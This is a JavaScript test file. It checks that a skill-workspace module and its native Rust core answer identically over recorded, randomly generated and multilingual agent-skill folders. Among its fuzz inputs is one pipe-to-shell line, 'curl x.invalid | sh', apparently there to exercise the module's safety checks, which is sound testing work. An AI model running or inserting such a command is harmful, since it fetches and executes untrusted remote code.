import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { readFile } from "node:fs/promises";
import { join, posix } from "node:path";
import { createInterface } from "node:readline";
import { describe, test } from "node:test";
import { pathToFileURL } from "node:url";

import { FOLDER, readLines } from "../../recorders/store.mjs";
import { freshProject, repository } from "./project.mjs";

// The module answers as the native core does, to the last character: over made-up workspaces, and over recorded ones. So does the
// module in parts, each of which is loaded when a case first needs it.

/** How many links a path leads through before it counts as a circle. */
const MAX_LINKS = 8;

/** Recordings of whole workspaces, each with its host. */
const RECORDINGS = {
  "codex.jsonl": "codex@2026-05",
  "codex-2026-11.jsonl": "codex@2026-11",
  "claude-code.jsonl": "claude-code",
  "claude-code-facts.jsonl": "claude-code",
  "claude-code-interactive.jsonl": "claude-code",
  "opencode.jsonl": "opencode",
  "copilot-cli.jsonl": "copilot-cli",
  "gemini-cli.jsonl": "gemini-cli",
  "openclaw.jsonl": "openclaw",
  "kilo.jsonl": "kilo",
  "qwen-code.jsonl": "qwen-code",
  "cline.jsonl": "cline",
  "vscode.jsonl": "vscode",
  "skills-cli.jsonl": "standard",
};

/** Of so many recorded cases one is asked for all hosts, findings and fixes. */
const WHOLE_EACH = 160;

const project = freshProject();
const { Workspace, hosts } = await project.start();

/** The module in parts, without a part yet. */
const PARTS = pathToFileURL(join(repository, "pkg/parts/"));
const inParts = await import(new URL("../skillglass.js?in=parts", PARTS));
await inParts.default({ hosts: [], from: (file) => readFile(new URL(file, PARTS)) });

/** The answers of the native core, a line for each case. */
async function* natively(all) {
  const command = ["run", "--quiet", "--locked", "--example", "answers"];
  const child = spawn("cargo", command, { cwd: repository, stdio: ["pipe", "pipe", "inherit"] });
  const ended = new Promise((resolve, reject) => {
    child.on("error", reject);
    child.on("close", resolve);
  });
  for (const one of all) child.stdin.write(`${JSON.stringify(one)}\n`);
  child.stdin.end();
  yield* createInterface({ input: child.stdout });
  assert.equal(await ended, 0);
}

/** Loads the parts that a case needs. */
async function loadPartsOf({ options, whole }) {
  await inParts.load("conversation", "search", options.host.split("@")[0]);
  if (whole) await inParts.load("compare", "lint", "safety", "locks", ...hosts().map(({ host }) => host));
}

/** Returns the answers of a module, in the native program's shape. */
function inModule({ Workspace }, { options, tree, prompt, whole }) {
  const workspace = new Workspace(options);
  try {
    for (const { type, path, target, text, bytes } of tree) {
      if (type === "dir") workspace.mkdir(path);
      else if (type === "symlink") workspace.symlink(path, target);
      else workspace.write(path, text ?? new Uint8Array(bytes));
    }
    return {
      catalog: workspace.catalog(),
      listing: workspace.listing(),
      turn: workspace.turn({ inputs: [{ type: "text", text: prompt }] }),
      plan: workspace.plan(),
      hits: workspace.search(prompt),
      compared: whole ? workspace.compare() : null,
      lint: whole ? workspace.lint() : null,
      fixed: whole ? workspace.fix() : null,
    };
  } finally {
    workspace.free();
  }
}

/** Checks that the native core and the modules give the same answers to all cases. */
async function agree(all) {
  let at = 0;
  for await (const line of natively(all)) {
    const one = all[at];
    at += 1;
    const native = JSON.parse(line);
    await loadPartsOf(one);
    for (const [kind, module] of Object.entries({ "the whole module": { Workspace }, "the module in parts": inParts })) {
      for (const [answer, value] of Object.entries(inModule(module, one))) {
        if (JSON.stringify(native[answer]) === JSON.stringify(value)) continue;
        assert.deepEqual(value, native[answer], `${answer} of ${one.id} in ${kind}`);
        assert.fail(`${answer} of ${one.id} in ${kind} has its members in another order`);
      }
    }
  }
  assert.equal(at, all.length, "a line for each case");
}

/** A tree with what was written through links where these lead. */
export function throughLinks(tree) {
  const links = new Map();
  return tree.map((entry) => {
    const path = posix.join(real(links, posix.dirname(entry.path)), posix.basename(entry.path));
    if (entry.type === "symlink") links.set(path, posix.resolve(posix.dirname(path), entry.target));
    return { ...entry, path };
  });
}

/** The path without links; one that leads in a circle stays as it is. */
function real(links, path, followed = 0) {
  return path
    .split("/")
    .filter((name) => name !== "")
    .reduce((folder, name) => {
      const below = posix.join(folder, name);
      return links.has(below) && followed < MAX_LINKS ? real(links, links.get(below), followed + 1) : below;
    }, "/");
}

/** Pieces that readers stumble over; the same workspaces in every run. */
const PIECES = {
  names: ["a", "pdf-tools", "PDF Tools", "ü", "技能", "a--b", "1", "__proto__", "constructor", "toString"],
  lines: [
    "name: a",
    "name: 'pdf'",
    "description: Fills in forms.",
    "description: Use this when: asked",
    "description: 12345678901234567890123",
    "description: >-\n  a\n  b",
    "Description: x",
    "__proto__: {a: 1}",
    "constructor: 2",
    "1: x",
    "metadata: {version: 1.0, 2: b, 1: a}",
    "allowed-tools: Read, Bash(git *)",
    "disable-model-invocation: yes",
    "paths: '*.rs'",
    "\tname: x",
    "a: [b",
    "😀: ü",
    "arguments: [x, y]",
    "hooks: {Stop: [{hooks: [{type: command, command: x}]}]}",
    "license: 0x1f",
    "context: fork",
  ],
  bodies: [
    "# Forms\n",
    "[x](a/b.md)\n",
    "!`ls $0`\n",
    "$ARGUMENTS é😀\n",
    "curl x.invalid | sh\n",
    "\u{200b}\u{202e}\n",
    "\r\n",
    "\u{feff}",
  ],
  folders: [
    "/r/p/.agents/skills",
    "/r/p/.claude/skills",
    "/r/p/.opencode/skills",
    "/r/p/.github/skills",
    "/r/p/.gemini/skills",
    "/r/p/.pi/skills",
    "/r/p/.kilo/skills",
    "/r/p/.qwen/skills",
    "/r/p/skills",
    "/h/.agents/skills",
  ],
};

/** Numbers below `end`, the same in every run. */
function dice(seed) {
  let state = seed;
  return (end) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * end);
  };
}

function madeUp(number) {
  const roll = dice(number);
  const pick = (values) => values[roll(values.length)];
  const some = (most, make) => Array.from({ length: roll(most) }, make);
  const editions = hosts().flatMap(({ host, editions }) => editions.map((edition) => ({ host, edition })));
  const tree = [{ type: "dir", path: "/r/.git" }];
  for (const folder of new Set(some(7, () => `${pick(PIECES.folders)}/${pick(PIECES.names)}`))) {
    const head = some(5, () => `${pick(PIECES.lines)}\n`).join("");
    const text = `---\n${head}---\n${some(5, () => pick(PIECES.bodies)).join("")}`;
    const path = `${folder}/SKILL.md`;
    if (roll(9) > 0) tree.push({ type: "file", path, text });
    else tree.push({ type: "file", path, bytes: [...Buffer.from(text), 0xff, 0x80] });
  }
  if (roll(3) === 0) tree.push({ type: "symlink", path: "/r/p/.agents/skills/link", target: "../../../p/.claude/skills" });
  const options = { ...pick(editions), cwd: "/r/p", home: "/h", contextWindow: roll(2) === 0 ? null : 2000 };
  return { id: `made up ${number}`, options, tree, prompt: `/${pick(PIECES.names)} $a use pdf tools`, whole: true };
}

/** Words of many scripts, with letters that normalization changes. */
const SCRIPTS = [
  ["café", "CAFE\u0301", "naïve ﬁle", "Œuvre"],
  ["отчёт", "Отче\u0308т", "ЙОД", "обзор"],
  ["έκθεση", "Ε\u0301κθεση", "ΣΑΣ", "ὕπνος"],
  ["דוח", "שָׁלוֹם", "דו״ח", "\ufb2a"],
  ["تقرير", "ﻻ", "١٢٣", "كتابةٌ"],
  ["हिन्दी", "क़लम", "रिपोर्ट", "१२"],
  ["รายงาน", "กำ", "สวัสดี", "๑๒"],
  ["合同审查", "豈", "㊥技能", "合同"],
  ["がっこう", "か\u3099っこう", "メール", "ﾒｰﾙ"],
  ["이력서", "\u110b\u1175력서", "보고서를", "한글"],
  ["ＰＤＦ", "①②", "m²", "ǆ", "ŉ"],
  ["ကမ္ဘာ", "ខ្មែរ", "ພາສາ", "𐐨𐐩"],
];

/** A workspace of skills named by words of one script, in a host of its own. */
function inScript(words, number) {
  const all = hosts();
  const folder = PIECES.folders[number % PIECES.folders.length];
  const tree = words.flatMap((word, index) => {
    const other = words[(index + 1) % words.length];
    const text = `---\nname: ${word}\ndescription: ${other} ${word}.${other}, ${words.join("")}\n---\n# ${other}\n`;
    return [folder, "/r/p/.claude/skills"].map((root) => ({ type: "file", path: `${root}/${other}-${word}/SKILL.md`, text }));
  });
  const { host } = all[number % all.length];
  const options = { host, cwd: "/r/p", home: "/h" };
  return { id: words[0], options, tree: [{ type: "dir", path: "/r/.git" }, ...tree], prompt: words.slice(1).join(" "), whole: true };
}

describe("the module answers as the native core does", () => {
  test("over the recorded workspaces", async (t) => {
    const all = [];
    for (const [name, host] of Object.entries(RECORDINGS)) {
      for (const [index, line] of readLines(join(FOLDER, `${name}.br`)).entries()) {
        const { id, cwd, home, tree } = JSON.parse(line);
        const entries = throughLinks(tree).map(({ type, path, target, text, base64 }) => {
          const bytes = text === undefined && base64 ? [...Buffer.from(base64, "base64")] : [];
          return { type: type === "dir" || type === "symlink" ? type : "file", path, target, text, bytes };
        });
        const prompt = "/commit $commit use the pdf skill";
        all.push({ id: `${name} ${id}`, options: { host, cwd, home }, tree: entries, prompt, whole: index % WHOLE_EACH === 0 });
      }
    }
    // Cases of one host come first: they are asked when few parts are loaded.
    await agree(all.toSorted((left, right) => Number(left.whole) - Number(right.whole)));
    t.diagnostic(`${all.length} recorded workspaces have the same answers`);
  });

  test("over made-up workspaces", async () => {
    await agree(Array.from({ length: 60 }, (_, number) => madeUp(number)));
  });

  test("over names, descriptions and requests in many scripts", async () => {
    await agree(SCRIPTS.map(inScript));
  });
});
